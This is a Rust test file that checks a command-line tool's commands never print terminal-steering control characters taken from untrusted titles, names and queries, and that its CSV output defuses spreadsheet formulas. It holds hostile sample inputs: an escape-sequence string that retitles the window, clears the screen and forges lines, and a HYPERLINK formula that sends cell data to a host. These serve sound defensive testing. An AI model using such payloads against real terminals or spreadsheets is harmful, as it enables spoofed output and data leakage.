//! Foreign text on terminals: whatever titles, refs, names, queries and servers' messages hold, no
//! verb prints what steers a terminal.

use std::process::Output;

use adit_shared::display::steers;
use serde_json::{Value, json};

use crate::support::{Doc, Server, adit, expect, last_line, run, write_collection};

/// Sets the window's title, clears the screen, in C1 too; begins a line, reorders and hides.
const FOREIGN: &str = "\u{1b}]0;owned\u{7}\u{1b}[2J\u{9b}31m\r\nforged\u{202e}\u{200b}\u{7f}";

/// Standard output and error of a verb, which hold nothing that steers a terminal.
fn printed(what: &[&str], output: &Output) -> String {
    let mut all = String::new();
    for stream in [&output.stdout, &output.stderr] {
        let text = String::from_utf8(stream.clone()).expect("what is printed is UTF-8");
        let steering: String = text.chars().filter(|c| steers(*c) && !matches!(c, '\n' | '\t')).collect();
        assert_eq!(steering, "", "{what:?} printed {text:?}");
        assert!(!text.lines().any(|line| line.starts_with("forged")), "{what:?} printed {text:?}");
        all += &text;
    }
    all
}

#[tokio::test]
async fn no_verb_prints_what_steers_a_terminal() {
    let dir = tempfile::tempdir().unwrap();
    let data = dir.path().join("data");
    let r#ref = format!("a{FOREIGN}");
    let metadata = json!({"title": format!("gold {FOREIGN}"), "creator": [FOREIGN], "subject": [FOREIGN, "gold"]});
    let documents = [Doc { r#ref: &r#ref, metadata, files: vec![("txt", b"gold".to_vec())] }];
    let folder = write_collection(dir.path(), "c", &documents);
    let about = json!({"slug": "c", "name": FOREIGN, "description": FOREIGN});
    std::fs::write(folder.join("collection.json"), about.to_string()).unwrap();
    // A line that is refused, whose reason tells its ref.
    let mut lines = std::fs::read_to_string(folder.join("documents.jsonl")).unwrap();
    lines += &json!({"ref": r#ref, "metadata": {}, "files": [{"format": "txt", "path": FOREIGN}]}).to_string();
    std::fs::write(folder.join("documents.jsonl"), lines).unwrap();
    let folder = folder.to_str().unwrap();
    let operator = |verb: &[&str]| printed(verb, &run(&data, verb));
    let said = operator(&["import", folder]);
    assert!(said.contains("1 added") && said.contains(r"\u{1b}]0;owned"), "{said}");

    let server = Server::start(&data, &[]);
    let watch = json!({"query": format!("\"{}\"", FOREIGN.replace(['\r', '\n'], " ")), "name": FOREIGN});
    expect(server.post("/api/collections/c/watch", &watch).await, 201).await;
    let docset = json!({"collection": "c", "query": "gold", "name": FOREIGN});
    let docset = expect(server.post("/api/docsets", &docset).await, 201).await["id"].to_string();
    let miner = |verb: &[&str]| {
        let mut command = adit(&data);
        printed(verb, &command.args(verb).env("ADIT_API_KEY", &server.key).current_dir(dir.path()).output().unwrap())
    };
    let shown = miner(&["search", "c", "gold", "--highlight", "--facet", "subject", "--facet", "creator"]);
    assert!(shown.contains(r"gold \u{1b}]0;owned\u{7}") && last_line(&shown) == "1 hits", "{shown}");
    for format in ["json", "ndjson"] {
        let text = miner(&["search", "c", "gold", "--format", format]);
        let value: Value = serde_json::from_str(&text).unwrap();
        let document = if format == "json" { &value["documents"][0] } else { &value };
        assert_eq!(document["ref"], json!(r#ref), "JSON keeps its values");
    }
    miner(&["search", "c", &format!("nofield{FOREIGN}:x")]);
    miner(&["search", &format!("c{FOREIGN}"), "x"]);
    for verb in [
        vec!["docset", "list"],
        vec!["docset", "show", &docset],
        vec!["docset", "create", "c", "gold", "--name", FOREIGN],
        vec!["docset", "rename", &docset, FOREIGN],
        vec!["docset", "diff", &docset, "--since", &docset],
        vec!["docset", "diff", &docset, "--since", &docset, "--json"],
        vec!["docset", "share", &docset],
        vec!["docset", "share", &docset, "--list"],
        vec!["docset", "open", FOREIGN],
        vec!["package", &docset, "--formats", "txt,meta", "--layout", "bag", "-o", "bag.zip"],
        vec!["package", &docset, "--formats", FOREIGN],
        vec!["verify", "bag.zip"],
        vec!["verify", "bag.zip", "--json"],
        vec!["verify", FOREIGN],
        vec!["hydrate", FOREIGN],
        vec!["apply", FOREIGN, FOREIGN],
        vec!["--url", FOREIGN, "search", "c", "x"],
    ] {
        miner(&verb);
    }
    for verb in [
        vec!["keys", "create", FOREIGN],
        vec!["keys", "list"],
        vec!["watches", "list"],
        vec!["watches", "deliver"],
        vec!["queues"],
        vec!["usage"],
        vec!["withdraw", FOREIGN, "--collection", "c", "--reason", "x"],
        vec!["withdraw", &r#ref, "--collection", "c", "--reason", FOREIGN],
        vec!["withdraw", "x", "--collection", FOREIGN, "--reason", "x"],
        vec!["reindex", FOREIGN],
        vec!["import", FOREIGN],
        vec!["usage", "--collection", FOREIGN],
    ] {
        operator(&verb);
    }
    let listed = operator(&["watches", "list"]);
    assert!(listed.contains(r"\u{1b}]0;owned"), "{listed}");
}

#[tokio::test]
async fn a_collection_that_is_named_by_a_formula_is_a_text_in_the_report() {
    let dir = tempfile::tempdir().unwrap();
    let data = dir.path().join("data");
    let title = "=HYPERLINK(\"http://127.0.0.1/?\"&A1)";
    let documents = [Doc { r#ref: "-1+1", metadata: json!({"title": title}), files: vec![("txt", b"gold".to_vec())] }];
    let folder = write_collection(dir.path(), "c", &documents);
    std::fs::write(folder.join("collection.json"), json!({"slug": "c", "name": title}).to_string()).unwrap();
    assert!(run(&data, &["import", folder.to_str().unwrap()]).status.success());
    let server = Server::start(&data, &[]);
    let mut search = adit(&data);
    let search =
        search.args(["search", "c", "gold", "--format", "csv"]).env("ADIT_API_KEY", &server.key).output().unwrap();
    let row = csv::Reader::from_reader(search.stdout.as_slice()).records().next().unwrap().unwrap();
    assert_eq!((&row[1], &row[5]), ("'-1+1", format!("'{title}").as_str()));
    // What was counted is written when the server ends, at the latest.
    assert!(server.stop().success());
    let usage = run(&data, &["usage", "--csv"]).stdout;
    let row = csv::Reader::from_reader(usage.as_slice()).records().next().unwrap().unwrap();
    assert_eq!(&row[0], format!("'{title}").as_str());
}
